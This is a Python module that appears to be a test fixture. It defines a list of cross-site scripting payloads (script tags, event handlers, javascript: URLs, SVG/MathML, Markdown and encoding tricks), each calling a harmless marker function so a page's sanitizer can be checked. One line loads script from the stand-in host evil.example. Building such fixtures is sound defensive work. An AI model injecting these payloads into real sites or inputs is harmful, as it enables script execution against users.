"""Words that would run in a page that believed them. Each holds `xssN()`, so that a page can be asked."""

_SHAPES = """
<script>X</script>
"><script>X</script>
'><script>X</script>
</script><script>X</script>
</textarea><script>X</script>
</title><script>X</script>
</style><script>X</script>
--><script>X</script>
]]><script>X</script>
<scr<script>ipt>X</scr</script>ipt>
<ScRiPt >X</sCrIpT >
<script/src=data:text/javascript,X></script>
<script src=//evil.example/X.js></script>
<img src=x onerror=X>
<img src=x onerror="X"//
"><img src=x onerror=X>
' onerror=X '
" onfocus=X autofocus "
" onmouseover="X
` onmouseover=X `
<svg onload=X>
<svg/onload=X>
<svg><script>X</script></svg>
<svg><a xlink:href="javascript:X"><text>a</text></a></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:X>
<svg><foreignObject><body onload=X></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=X></style></mglyph></table></mtext></math>
<math href="javascript:X">a</math>
<body onload=X>
<iframe src="javascript:X"></iframe>
<iframe srcdoc="<script>X</script>"></iframe>
<object data="javascript:X"></object>
<embed src="javascript:X">
<a href="javascript:X">a</a>
<a href="JaVaScRiPt:X">a</a>
<a href="java&#x09;script:X">a</a>
<a href="&#106;avascript:X">a</a>
<a href="[SOH]javascript:X">a</a>
<a href=" javascript:X">a</a>
<a href="data:text/html,<script>X</script>">a</a>
<a href="vbscript:X">a</a>
<form action="javascript:X"><button>a</button></form>
<button formaction="javascript:X">a</button>
<input onfocus=X autofocus>
<details open ontoggle=X>
<video><source onerror=X></video>
<audio src=x onerror=X>
<marquee onstart=X>
<base href="javascript:X//">
<meta http-equiv=refresh content="0;url=javascript:X">
<link rel=stylesheet href="data:text/css,*{background:url(X)}">
<style>@import 'javascript:X';</style>
<div style="background:url(javascript:X)">a</div>
<div style="width:expression(X)">a</div>
<div hx-get="/desk" hx-on::load="X" hx-trigger="load">a</div>
<div hx-vals="js:{a:X}" hx-post="/desk" hx-trigger="load">a</div>
<template><img src=x onerror=X></template>
<noscript><p title="</noscript><img src=x onerror=X>">
<xmp><p title="</xmp><img src=x onerror=X>">
[a](javascript:X)
![a](javascript:X)
[a](JaVaScRiPt:X)
[a](data:text/html;base64,X)
[a]: javascript:X
<javascript:X>
![a](x"onerror="X)
{{ X }}
{% X %}
${X}
%3Cscript%3EX%3C/script%3E
＜script＞X＜/script＞
<img src="x` `<script>X</script>"` `>
[RLO]<script>X</script>
""".strip().splitlines()

PAYLOADS = tuple(
    shape.replace("X", f"xss{number}()").replace("[SOH]", "\x01").replace("[RLO]", "\u202e")
    for number, shape in enumerate(_SHAPES)
)
